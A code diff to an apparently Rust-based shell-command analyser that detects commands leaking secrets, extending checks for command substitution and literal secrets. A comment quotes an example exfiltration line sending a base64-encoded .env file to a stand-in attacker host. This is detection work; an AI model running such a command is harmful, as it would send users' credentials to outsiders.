@@ -499,8 +499,13 @@ impl Sh<'_> {
             // A variable (`?password=$DB_PASSWORD`, `https://$USER:$PASS@host`) is how a
             // client logs in to the server it names; a command's output is not.
             let substituted = r.contains("$(") || r.contains('`');
+            // A store's read (`$(vault kv get …)`) is a command's output too.
+            // A store's read (`$(vault kv get …)`) is a command's output too, in the login
+            // as anywhere else (`http://$(base64 .env)@evil.example/`).
             w.secret.as_ref().filter(|s| {
-                substituted && !s.starts_with('$') && (r.contains("://") || host_path(r))
+                substituted
+                    && (!s.starts_with('$') || s.starts_with("$("))
+                    && (r.contains("://") || host_path(r))
             })
         }) {
             self.add(
@@ -645,6 +650,12 @@ impl Sh<'_> {
         stdin: &Input,
     ) -> Input {
         let mark = self.ctx.mark();
+        if let Some(what) = super::sent::literal_secret(wrapped(argv)) {
+            self.add(
+                Effect::Admin,
+                format!("{} sends {what} away", snippet_words(argv)),
+            );
+        }
         let out = self.command_step(argv, words, raw_args, stdin);
         // A read given a startup file, an access list or a hook as an option's value
         // (`rsync --log-file=~/.bashrc`, `tar -tf x --index-file ~/.bashrc`, `ss -D FILE`):
